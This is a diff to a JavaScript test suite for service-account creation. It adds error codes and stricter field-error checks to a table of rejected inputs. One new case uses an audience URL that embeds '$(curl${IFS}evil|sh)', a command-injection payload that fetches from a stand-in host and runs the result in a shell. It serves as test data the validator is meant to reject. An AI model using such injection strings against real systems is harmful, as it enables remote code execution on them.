@@ -35,19 +35,23 @@ describe("creating service accounts", () => {
   });
 
   it.each([
-    [{ name: "billing-job" }, "name", /taken/],
-    [{ name: "ttl", tokenTtlSeconds: 30 }, "tokenTtlSeconds", /at least 60/],
-    [{ name: "ttl2", tokenTtlSeconds: 90_000 }, "tokenTtlSeconds", /at most 86400/],
-    [{ name: "aud", audiences: ["ftp://x.example.com"] }, "audiences.0", /absolute URI/],
-    [{ name: "aud2", audiences: ["bad name!"] }, "audiences.0", /Audiences cannot contain spaces|absolute URI/],
-    [{ name: "aud3", audiences: [] }, "audiences", /at least one/],
-    [{ name: "aud4", audiences: Array.from({ length: 11 }, (_, i) => `a${i}.example.com`) }, "audiences", /At most 10/],
-    [{ name: "scope", scopes: ["nope:read"] }, "scopes", /Unknown scope/],
-  ])("refuses bad input %j with a field error and saves nothing", async (override, field, message) => {
+    [{ name: "billing-job" }, "conflict", "name", /taken/],
+    [{ name: "ttl", tokenTtlSeconds: 30 }, "bad_request", "tokenTtlSeconds", /at least 60/],
+    [{ name: "ttl2", tokenTtlSeconds: 90_000 }, "bad_request", "tokenTtlSeconds", /at most 86400/],
+    [{ name: "aud", audiences: ["ftp://x.example.com"] }, "bad_request", "audiences.0", /absolute URI/],
+    [{ name: "aud2", audiences: ["bad name!"] }, "bad_request", "audiences.0", /Audiences cannot contain spaces/],
+    [{ name: "aud3", audiences: [] }, "bad_request", "audiences", /at least one/],
+    [{ name: "aud4", audiences: Array.from({ length: 11 }, (_, i) => `a${i}.example.com`) }, "bad_request", "audiences", /At most 10/],
+    [{ name: "aud5", audiences: ["https://a.example.com", "https://x.example/$(curl${IFS}evil|sh)"] }, "bad_request", "audiences.1", /\$, backticks, quotes or backslashes/],
+    [{ name: "aud6", audiences: ["https://X.example:443/"] }, "bad_request", "audiences.0", /canonical form: https:\/\/x\.example\/$/],
+    [{ name: "scope", scopes: ["nope:read"] }, "bad_request", "scopes", /Unknown scope/],
+  ])("refuses bad input %j with a %s error on its field and saves nothing", async (override, code, field, message) => {
     const { org, actor } = await orgWithServiceAccount();
     const before = await db().serviceAccount.count({ where: { orgId: org.id } });
     const error = await createServiceAccount(actor, org.slug, { audiences: ["https://a.example.com"], ...override }).catch((e) => e);
-    expect(error.fieldErrors?.[field]?.join(" ") ?? error.userMessage).toMatch(message);
+    expect(error).toMatchObject({ code });
+    expect(Object.keys(error.fieldErrors ?? {})).toEqual([field]);
+    expect(error.fieldErrors[field].join(" ")).toMatch(message);
     expect(await db().serviceAccount.count({ where: { orgId: org.id } })).toBe(before);
   });
 });
